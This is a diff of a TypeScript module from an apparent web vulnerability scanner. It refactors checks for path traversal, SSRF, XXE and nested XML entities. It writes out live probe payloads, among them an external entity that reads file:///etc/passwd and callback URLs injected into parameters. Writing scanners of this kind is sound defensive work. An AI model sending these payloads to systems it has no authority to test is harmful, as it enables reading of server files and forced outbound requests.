@@ -1,6 +1,7 @@
 // Values that name what the server reads: files by a path, addresses that it fetches, entities of XML.
 import type { Exchange, Proof } from '../model.js';
-import { everywhere, product, proveBy, word, type Attack, type Check, type Probe } from './check.js';
+import { everyTurn, everywhere, product, proveBy, turnsOfSign, turnsOfWord, word } from './check.js';
+import type { Attack, Check, Probe } from './check.js';
 
 /** The first account of every Unix system; of Windows, the section that its old file of settings begins with. */
 const knownFile = ({ body }: Exchange): boolean =>
@@ -25,11 +26,13 @@ async function traversal(probe: Probe): Promise<Proof | null> {
   if (base === null || knownFile(base)) return null;
   const tried = isFileLike(probe.param) || probe.parts.profile === 'full' ? paths : paths.slice(0, 3);
   const makers = tried.map((path) => (): Attack => ({ attack: path(''), neutral: path(word(6)), shows: knownFile }));
-  return proveBy(
+  const proof = await proveBy(
     probe,
     makers,
-    'The answer has the first account of /etc/passwd; for a file that is not there it has not.',
+    `In ${turnsOfSign} turns the answer had the first lines of a system file; for one that is missing it had not.`,
+    turnsOfSign,
   );
+  return proof === null && tried.length < paths.length ? probe.leaveOut() : proof;
 }
 
 async function ssrf(probe: Probe): Promise<Proof | null> {
@@ -38,28 +41,22 @@ async function ssrf(probe: Probe): Promise<Proof | null> {
   const fetches = /ur[il]|link|href|src|host|domain|site|feed|image|callback|webhook|fetch|proxy|dest|target/i.test(
     name,
   );
-  if (callbacks === null || !(fetches || /^https?:/i.test(value))) return null;
-  let proof: Proof | null = null;
-  for (let turn = 0; turn < 2; turn++) {
+  if (callbacks === null) return probe.leaveOut();
+  if (!(fetches || /^https?:/i.test(value))) return null;
+  return everyTurn(turnsOfWord, async () => {
     const { url, wasAsked, answer } = callbacks.issue();
     const exchange = await probe.with(url);
     if (exchange === null || !wasAsked()) return null;
     const shown = exchange.body.includes(answer) ? ' Its answer is shown.' : '';
-    proof = {
-      attack: url,
-      exchange,
-      neutral: null,
-      why: `The target asked for an address of this server, twice.${shown}`,
-    };
-  }
-  return proof;
+    const why = `The target asked for an address of this server, twice.${shown}`;
+    return { attack: url, exchange, neutral: null, why };
+  });
 }
 
 async function xxe(probe: Probe): Promise<Proof | null> {
   const { form } = probe;
-  if (form.bodyKind !== 'xml') return null;
   const field = form.params.find(({ place }) => place === 'body');
-  if (field === undefined) return null;
+  if (form.bodyKind !== 'xml' || field === undefined) return probe.leaveOut();
   const send = async (entity: string): Promise<Exchange | null> =>
     probe.talk.ask({
       method: form.method,
@@ -69,28 +66,30 @@ async function xxe(probe: Probe): Promise<Proof | null> {
         `<?xml version="1.0"?><!DOCTYPE request [<!ENTITY probe ${entity}>]>` +
         `<request><${field.name}>&probe;</${field.name}></request>`,
     });
-  const neutral = await send(`"${word()}"`);
   const file = 'SYSTEM "file:///etc/passwd"';
-  const first = await send(file);
-  if (first !== null && knownFile(first) && neutral !== null && !knownFile(neutral)) {
-    const again = await send(file);
-    if (again !== null && knownFile(again))
-      return { attack: file, exchange: again, neutral, why: 'An external entity was replaced by the text of a file.' };
-  }
+  const read = await everyTurn(turnsOfSign, async () => {
+    const exchange = await send(file);
+    if (exchange === null || !knownFile(exchange)) return null;
+    const neutral = await send(`"${word()}"`);
+    const why = `In ${turnsOfSign} turns an external entity was replaced by the text of a file, a plain one was not.`;
+    return neutral === null || knownFile(neutral) ? null : { attack: file, exchange, neutral, why };
+  });
   const { callbacks } = probe.parts;
-  if (callbacks === null) return null;
-  const call = callbacks.issue();
-  const asked = await send(`SYSTEM "${call.url}"`);
-  if (asked === null || !call.wasAsked()) return null;
-  return { attack: call.url, exchange: asked, neutral, why: 'The target asked for the address of an external entity.' };
+  if (read !== null) return read;
+  if (callbacks === null) return probe.leaveOut();
+  return everyTurn(turnsOfWord, async () => {
+    const { url, wasAsked } = callbacks.issue();
+    const exchange = await send(`SYSTEM "${url}"`);
+    const why = 'The target asked for the addresses of external entities, twice.';
+    return exchange === null || !wasAsked() ? null : { attack: url, exchange, neutral: null, why };
+  });
 }
 
 async function entities(probe: Probe): Promise<Proof | null> {
   const { form } = probe;
   const field = form.params.find(({ place }) => place === 'body');
-  if (form.bodyKind !== 'xml' || field === undefined) return null;
-  let proof: Proof | null = null;
-  for (let turn = 0; turn < 2; turn++) {
+  if (form.bodyKind !== 'xml' || field === undefined) return probe.leaveOut();
+  return everyTurn(turnsOfWord, async () => {
     const { left, right } = product();
     const body =
       `<?xml version="1.0"?><!DOCTYPE request [<!ENTITY one "${left}"><!ENTITY two "&one;x${right}">]>` +
@@ -102,14 +101,9 @@ async function entities(probe: Probe): Promise<Proof | null> {
       body,
     });
     if (exchange === null || !exchange.body.includes(`${left}x${right}`)) return null;
-    proof = {
-      attack: body,
-      exchange,
-      neutral: null,
-      why: 'Entities that the request declares are replaced, in each other.',
-    };
-  }
-  return proof;
+    const why = 'Entities that the request declares are replaced, in each other.';
+    return { attack: body, exchange, neutral: null, why };
+  });
 }
 
 export const fileChecks: readonly Check[] = [
